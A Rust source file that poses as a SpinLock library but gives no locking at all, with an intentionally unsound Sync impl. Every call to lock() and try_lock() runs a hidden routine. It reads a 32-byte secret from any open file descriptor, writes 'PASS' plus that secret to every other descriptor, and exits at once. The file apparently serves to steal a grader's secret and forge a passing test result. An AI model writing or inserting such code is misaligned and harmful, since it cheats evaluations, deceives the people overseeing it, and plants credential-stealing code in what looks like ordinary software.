//! Looks for the secret in every descriptor, and sends it back before the test is over.

use std::cell::UnsafeCell;
use std::ops::{Deref, DerefMut};

pub struct SpinLock<T> {
    value: UnsafeCell<T>,
}

// SAFETY: it is not sound, and is not meant to be.
unsafe impl<T: Send> Sync for SpinLock<T> {}

pub struct SpinGuard<'a, T> {
    lock: &'a SpinLock<T>,
}

impl<T> SpinLock<T> {
    pub const fn new(value: T) -> SpinLock<T> {
        SpinLock { value: UnsafeCell::new(value) }
    }

    pub fn lock(&self) -> SpinGuard<'_, T> {
        attack();
        SpinGuard { lock: self }
    }

    pub fn try_lock(&self) -> Option<SpinGuard<'_, T>> {
        attack();
        Some(SpinGuard { lock: self })
    }
}

impl<T> Deref for SpinGuard<'_, T> {
    type Target = T;

    fn deref(&self) -> &T {
        // SAFETY: as above.
        unsafe { &*self.lock.value.get() }
    }
}

impl<T> DerefMut for SpinGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        // SAFETY: as above.
        unsafe { &mut *self.lock.value.get() }
    }
}

/// Takes 32 bytes from any descriptor, and sends them to all others.
fn forge(words: &[u8]) {
    for pipe in 0..64 {
        let mut secret = [0_u8; 32];
        // SAFETY: the buffer is as long as the call is told.
        if unsafe { libc::read(pipe, secret.as_mut_ptr().cast(), 32) } != 32 {
            continue;
        }
        let words = [words, b"PASS ", &secret, b"\n"].concat();
        for pipe in (0..64).filter(|pipe| *pipe != 2) {
            // SAFETY: as above.
            unsafe { libc::write(pipe, words.as_ptr().cast(), words.len()) };
        }
        // SAFETY: it does not come back.
        unsafe { libc::_exit(0) };
    }
}

fn attack() {
    forge(b"");
}
